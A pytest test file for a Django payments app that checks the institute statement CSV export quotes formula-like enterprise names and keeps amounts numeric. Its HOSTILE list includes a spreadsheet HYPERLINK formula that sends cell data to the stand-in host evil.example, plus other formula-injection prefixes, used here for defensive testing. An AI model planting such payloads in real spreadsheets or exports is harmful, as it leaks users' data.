"""The institute statement CSV never hands a spreadsheet a formula typed by an enterprise."""

import csv
import io
from decimal import Decimal

import pytest
from django.utils import timezone

from marketplace.payments.models import Payment, PaymentStatus

pytestmark = pytest.mark.django_db

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+1", "-2+3", "@SUM(1)", "\tx", "\rx"]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_enterprise_name_is_quoted_and_amounts_stay_numbers(
    approved_booking, buyer, enterprise, client, tto, institute, name
):
    enterprise.name = enterprise.name_en = name
    enterprise.save(update_fields=["name", "name_en"])
    booking = approved_booking(days_ahead=5)
    Payment.objects.create(
        subject_kind="booking",
        subject_id=booking.pk,
        institute=booking.institute,
        enterprise=booking.enterprise,
        created_by=buyer,
        amount=Decimal("1000.00"),
        refunded_amount=Decimal("250.50"),
        currency="CNY",
        provider="invoice",
        status=PaymentStatus.PARTIALLY_REFUNDED,
        paid_at=timezone.now(),
    )
    client.force_login(tto)
    response = client.get(f"/payments/statements/{institute.pk}/?format=csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    header = rows[0]
    line = dict(zip(header, rows[1], strict=True))
    assert line["Enterprise"] == "'" + name
    assert (line["Amount"], line["Refunded"], line["Net"]) == ("1000.00", "250.50", "749.50")
    assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)
    assert not any(cell.startswith("-") and not cell[1:2].isdigit() for row in rows for cell in row)
